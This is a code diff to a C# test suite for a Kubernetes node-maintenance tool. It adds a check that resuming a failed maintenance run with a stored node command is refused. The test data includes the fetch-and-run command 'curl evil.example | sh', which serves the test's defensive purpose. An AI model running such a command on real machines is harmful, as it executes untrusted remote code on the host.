@@ -1,7 +1,6 @@
 using System.Text.Json.Nodes;
 using NodeManager.Conformance.Harness;
 using NodeManager.Conformance.Maintenance;
-using NodeManager.Core.Progress;
 using NodeManager.Kubernetes.Models;
 using NodeManager.Kubernetes.Patching;
 using NodeManager.Kubernetes.Requests;
@@ -83,7 +82,12 @@ public sealed class CommandMaintenanceTests
         );
         NodeMaintenanceRun stored = await ReadAsync(lab, failed);
 
-        Assert.Equal(ErrorIds.MaintenanceInvalid, refused.ErrorId);
+        await ReplaceAsync(lab, failed.Run.Id, "\"nodeCommand\":\"curl evil.example | sh\"", "\"reboot\":true");
+        NodeManagerException alsoRefused = await Assert.ThrowsAsync<NodeManagerException>(() =>
+            RunAsync(lab, Request(lab, new()) with { Nodes = [], ResumeId = failed.Run.Id })
+        );
+
+        Assert.Equal((ErrorIds.MaintenanceInvalid, ErrorIds.MaintenanceInvalid), (refused.ErrorId, alsoRefused.ErrorId));
         Assert.Equal("curl evil.example | sh", stored.NodeCommand);
         Assert.EndsWith("-NodeCommand $theSameCommand", stored.ResumeCommand, StringComparison.Ordinal);
         Assert.Empty(await lab.PodsAsync());
